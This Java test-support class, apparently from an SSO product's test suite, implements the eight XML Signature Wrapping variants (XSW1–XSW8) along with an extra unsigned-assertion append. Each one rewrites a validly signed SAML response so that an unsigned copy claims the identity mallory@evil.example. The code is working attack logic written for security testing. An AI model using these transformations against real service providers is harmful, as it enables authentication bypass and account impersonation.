package com.frontline.sso.testsupport.saml;

import static com.frontline.sso.testsupport.saml.SamlDom.DSIG_NS;
import static com.frontline.sso.testsupport.saml.SamlDom.SAMLP_NS;
import static com.frontline.sso.testsupport.saml.SamlDom.SAML_NS;
import static com.frontline.sso.testsupport.saml.SamlDom.assertionOf;
import static com.frontline.sso.testsupport.saml.SamlDom.newElement;
import static com.frontline.sso.testsupport.saml.SamlDom.removeSignature;
import static com.frontline.sso.testsupport.saml.SamlDom.signatureOf;

import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * XML Signature Wrapping by DOM surgery on a validly signed response: the eight variants of SAML Raider, after
 * Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012). In each, the signed
 * original survives somewhere a verifier that looks elements up by ID will find it, while an evil, unsigned copy
 * claiming {@link #EVIL_EMAIL} sits where a careless SP reads the user from.
 */
public final class SignatureWrapping {

    /** Who the evil copy claims to be. */
    public static final String EVIL_EMAIL = "mallory@evil.example";
    /** The ID the wrapping gives to elements that move out of the signature's reach. */
    public static final String EVIL_ID = "_evil";

    /** The variants; XSW1 and XSW2 attack the Response's signature, the others the Assertion's. */
    public enum Variant {
        /** The root Response turns evil under a new ID; an unsigned copy of the original sits inside its Signature. */
        XSW1,
        /** As XSW1, but the copy of the original sits before the Signature, as a detached signature would reference it. */
        XSW2,
        /** An evil, unsigned copy of the assertion (new ID) is inserted before the signed one. */
        XSW3,
        /** An evil, unsigned copy of the assertion (new ID) takes its place and contains the signed original. */
        XSW4,
        /** The assertion in place turns evil under a new ID, keeping its Signature; an unsigned copy of the original is appended. */
        XSW5,
        /** As XSW5, but the unsigned copy of the original sits inside the evil assertion's Signature. */
        XSW6,
        /** An evil, unsigned copy of the assertion (same ID) sits in a samlp:Extensions element before the signed one. */
        XSW7,
        /** The assertion in place turns evil (same ID); an unsigned copy of the original sits in a ds:Object of its Signature. */
        XSW8;

        public boolean attacksResponseSignature() {
            return this == XSW1 || this == XSW2;
        }
    }

    private SignatureWrapping() {
    }

    /** Applies the variant to the signed response's DOM (which it changes) and returns the resulting XML. */
    public static String wrap(Variant variant, ForgedResponse signed) {
        Element response = signed.dom();
        Element assertion = assertionOf(response);
        switch (variant) {
            case XSW1 -> {
                Element original = unsignedCopy(response);
                turnEvil(response, EVIL_ID);
                signatureOf(response).appendChild(original);
            }
            case XSW2 -> {
                Element original = unsignedCopy(response);
                turnEvil(response, EVIL_ID);
                response.insertBefore(original, signatureOf(response));
            }
            case XSW3 -> response.insertBefore(evilCopy(assertion, EVIL_ID), assertion);
            case XSW4 -> {
                Element evil = evilCopy(assertion, EVIL_ID);
                response.replaceChild(evil, assertion);
                evil.appendChild(assertion);
            }
            case XSW5 -> {
                Element original = unsignedCopy(assertion);
                turnEvil(assertion, EVIL_ID);
                response.appendChild(original);
            }
            case XSW6 -> {
                Element original = unsignedCopy(assertion);
                turnEvil(assertion, EVIL_ID);
                signatureOf(assertion).appendChild(original);
            }
            case XSW7 -> {
                Element extensions = newElement(response, SAMLP_NS, "Extensions");
                response.insertBefore(extensions, assertion);
                extensions.appendChild(evilCopy(assertion, assertion.getAttribute("ID")));
            }
            case XSW8 -> {
                Element original = unsignedCopy(assertion);
                turnEvil(assertion, assertion.getAttribute("ID"));
                Element signature = signatureOf(assertion);
                signature.appendChild(newElement(signature, DSIG_NS, "Object")).appendChild(original);
            }
            default -> throw new IllegalArgumentException(variant.name());
        }
        return Saml.toXml(response);
    }

    /** Appends a second, unsigned assertion (new ID) naming {@link #EVIL_EMAIL} after the signed one. */
    public static String appendEvilAssertion(ForgedResponse signed) {
        Element response = signed.dom();
        response.appendChild(evilCopy(assertionOf(response), EVIL_ID));
        return Saml.toXml(response);
    }

    /** Every text node whose value is the NameID's now names {@link #EVIL_EMAIL}; the ID changes to {@code id}. */
    private static void turnEvil(Element element, String id) {
        String victim = element.getElementsByTagNameNS(SAML_NS, "NameID").item(0).getTextContent();
        replaceText(element, victim, EVIL_EMAIL);
        element.setAttributeNS(null, "ID", id);
    }

    private static Element evilCopy(Element signed, String id) {
        Element copy = unsignedCopy(signed);
        turnEvil(copy, id);
        return copy;
    }

    private static Element unsignedCopy(Element signed) {
        Element copy = (Element) signed.cloneNode(true);
        removeSignature(copy);
        return copy;
    }

    private static void replaceText(Node node, String from, String to) {
        if (node.getNodeType() == Node.TEXT_NODE && from.equals(node.getNodeValue())) {
            node.setNodeValue(to);
        }
        for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
            replaceText(child, from, to);
        }
    }
}
